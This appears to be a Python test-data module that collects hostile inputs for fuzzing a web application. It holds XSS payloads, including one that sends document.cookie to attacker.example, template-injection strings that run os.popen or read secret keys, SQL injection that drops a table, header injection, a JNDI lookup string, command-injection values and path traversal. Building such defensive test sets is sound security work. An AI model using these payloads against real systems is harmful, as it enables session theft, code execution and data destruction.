"""Texts that have broken other people's pages, templates, queries, headers and screens."""

SCRIPTS = [
    "alert(1)", "alert(document.domain)", "alert`1`", "confirm(1)",
    "fetch('//attacker.example/'+document.cookie)",
    "eval(atob('YWxlcnQoMSk='))", "top['al'+'ert'](1)", "import('//attacker.example/x.js')",
]  # fmt: skip
MARKUP = [
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=//attacker.example/x.js></script>{}",
    "</script><script>{}</script>", "<img src=x onerror={}>",
    '"><img src=x onerror="{}">', "'><svg onload={}>",
    "<svg><script>{}</script></svg>", "<svg/onload={}//", "<body onload={}>",
    "<iframe src=\"javascript:{}\"></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<a href=\"javascript:{}\">x</a>",
    '" autofocus onfocus="{}" x="',
    "' onmouseover='{}' x='", "<input autofocus onfocus={}>", "<details open ontoggle={}>",
    "<math><mi xlink:href=\"javascript:{}\">",
    "</textarea><script>{}</script>", "</title><script>{}</script>",
    "</option></select><img src=x onerror={}>",
    "--><script>{}</script><!--", "]]><script>{}</script>",
    "<style>@import '//attacker.example/';</style>{}",
    "<base href=//attacker.example/>{}", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<form action=//attacker.example/><button>{}",
    "<object data=\"data:text/html,<script>{}</script>\">",
    "<div hx-get=//attacker.example/ hx-trigger=load>{}</div>", "<div data-hx-on:load=\"{}\">",
    "<template><script>{}</script></template>",
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E", "＜script＞{}＜/script＞", "<\u200bscript>{}</script>",
    "javascript:{}", "JaVaScRiPt:{}//",
    "data:text/html,<script>{}</script>", "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "{{ 7|add:7 }}", "{{ request.user.password }}", "{{ settings.SECRET_KEY }}",
    "{% debug %}", "{% load log %}",
    "{% include '/etc/passwd' %}", "{% extends 'admin/base.html' %}", "{% csrf_token %}",
    "{% url 'admin:index' %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ config.items() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{# comment #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "${{7*7}}", "@(7*7)",
    "{{constructor.constructor('alert(1)')()}}",
    "{{ env \"DATABASE_URL\" }}", "{name.__class__.__init__.__globals__}", "{0.__class__}",
    "{name!r}", "{name:>1000000000}",
    "%(name)s", "%s%s%s%s%n", "{hotline}", "{{{name}}}", "[[${7*7}]]", "*{7*7}", "~{x}",
    "#set($x=7*7)$x", "{php}echo 1;{/php}",
    "{{= 7*7 }}", "{%", "%}", "{{", "}}", "{#",
]  # fmt: skip
QUERIES = [
    "' OR '1'='1", "' OR 1=1--", "'; DROP TABLE members_customer; --", "1; SELECT pg_sleep(5)",
    "' UNION SELECT NULL,NULL--",
    "') OR ('1'='1", "\" OR \"\"=\"", "admin'--", "1' AND (SELECT pg_sleep(5))--",
    "%' AND '%'='", "_", "%", "\\", "\\'", "$$", "$1",
    "'||(SELECT version())||'", "*/ SELECT 1 /*", "E'\\\\x27'", "%s", "%(x)s", "NULL",
    "\"members_customer\"", "id__gt=0", "-1 OR 1=1",
    "' & ' | !", "a:*", "<->", "(((((", "[a-z", "(a+)+$",
]  # fmt: skip
HEADERS = [
    "x\r\nSet-Cookie: a=b", "x\nBcc: everybody@example.com",
    "x\r\n\r\n<script>alert(1)</script>", "x%0d%0aLocation: //attacker.example",
    "\r\nContent-Length: 0", "x\u2028y", "x\u2029y", "x\u0085y", "x\x0by", "x\x0cy",
    "http://attacker.example\r\nHost: x",
]  # fmt: skip
LETTERS = [
    "\u202ecod.exe", "\u202dabc\u202c", "\u2066abc\u2069", "a\u200bb", "a\u200db", "\ufeffabc",
    "\u00ad", "e\u0301" * 30,
    "Z\u0351\u036b\u0343\u036a\u0302\u036b" * 5, "👨‍👩‍👧‍👦🏳️‍🌈🇨🇳", "😀" * 50, "﷽", "ﬃ",
    "İstanbul", "ß", "ＡＢＣ＜＞", "𝕏𝕐ℤ", "𠮷野家",
    "مرحبا", "\u0e01\u0e33" * 20, "\U000e0001\U000e0041", "\ue000", "\x01\x02\x7f",
    "\x1b[31mred\x1b[0m", "\x08\x08",
    " ", "\u3000", "\u2800", "\ud7ff\ue000", "\U0010ffff", "ﾟ･✿ヾ", "𐐀𐐁", "ab\u0300\u0301cd",
    "‮⁦⁧⁨‫‪", "½¾²", "０１２",
]  # fmt: skip
OTHERS = [
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd%00.png",
    "file:///etc/passwd", "//attacker.example",
    "https://attacker.example", "\\\\attacker.example\\share", "; id", "| id", "`id`", "$(id)",
    "&& id", "() { :; }; id",
    "${jndi:ldap://attacker.example/a}",
    "<?xml version='1.0'?><!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><r>&x;</r>",
    "<!--#exec cmd='id'-->", "undefined", "null", "NaN", "Infinity", "-0", "1e309", "0x10",
    "9" * 40, "-9223372036854775809", "true", "[]",
    "{}", '{"$gt": ""}', "__proto__", "constructor",
    "a" * 5_000, "王" * 3_000, "<" * 3_000, "&" * 3_000, "a " * 2_000, "\n" * 500,
    "=1+1", "@SUM(A1)", "CON", "NUL", "aux.txt",
]  # fmt: skip

# Each way into markup with a script or two, every other text as it is. NUL is refused before anybody reads it
# (test_unreadable).
HOSTILE = list(dict.fromkeys([
    *(form.replace("{}",
    SCRIPTS[(number + turn) % len(SCRIPTS)]) for number, form in enumerate(MARKUP) for turn in range(4)),
    *TEMPLATES, *QUERIES, *HEADERS, *LETTERS, *OTHERS,
]))  # fmt: skip
WORST = [
    *(form.replace("{}", "alert(1)") for form in MARKUP[:24]), "{{7*7}}",
    "{{constructor.constructor('alert(1)')()}}",
    "x\u2028alert(1)", "\u202e<script>alert(1)</script>", "'-alert(1)-'", "\";alert(1);//",
]  # fmt: skip
